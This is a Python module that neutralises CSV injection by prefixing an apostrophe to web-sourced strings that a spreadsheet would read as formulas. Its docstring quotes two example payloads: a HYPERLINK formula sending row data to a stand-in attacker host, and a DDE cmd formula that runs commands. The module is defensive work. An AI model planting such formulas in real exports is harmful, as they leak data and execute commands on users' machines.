"""Text from the web in CSV files, written so that a spreadsheet shows it as text.

A spreadsheet opening a CSV file reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and one starting with a tab or a line break the same way in some of them: a page
title of ``=HYPERLINK("https://evil.example/?"&A2, "open")`` sends its row's cells away when
clicked, and older spreadsheets run commands from ``=cmd|' /c ...'!A0`` (CSV injection,
CWE-1236). What a candidate's source or a server gave (a URL that is not one, a title, an
author, a caption, a license, a header's value, an error's text) is written in the CSV and
tab-separated files with an apostrophe before such a first character, which spreadsheets take
as "text" (and hide); programs reading the CSV as data see it, and should read the Parquet,
JSON or YAML files, which keep the value as found.
"""

from __future__ import annotations

import re
from typing import Any, Iterable

import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = "=+-@\t\r\n"
"""The first characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
_FORMULA_RE = f"^[{re.escape(FORMULA_START)}]"


def as_text(value: Any) -> Any:
    """``value`` with an apostrophe before it where it is a string a spreadsheet would read as
    a formula; any other value as it is."""
    if isinstance(value, str) and value and value[0] in FORMULA_START:
        return "'" + value
    return value


def as_text_columns(table: pa.Table, names: Iterable[str]) -> pa.Table:
    """``table`` with ``as_text`` applied to its string columns among ``names``."""
    for name in names:
        index = table.schema.get_field_index(name)
        if index < 0:
            continue
        column = table.column(index)
        if not (pa.types.is_string(column.type) or pa.types.is_large_string(column.type)):
            continue
        formula = pc.match_substring_regex(column, _FORMULA_RE)
        if not pc.any(formula).as_py():
            continue
        quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column,
                                             pa.scalar("", column.type))
        table = table.set_column(index, table.field(index), pc.if_else(formula, quoted, column))
    return table
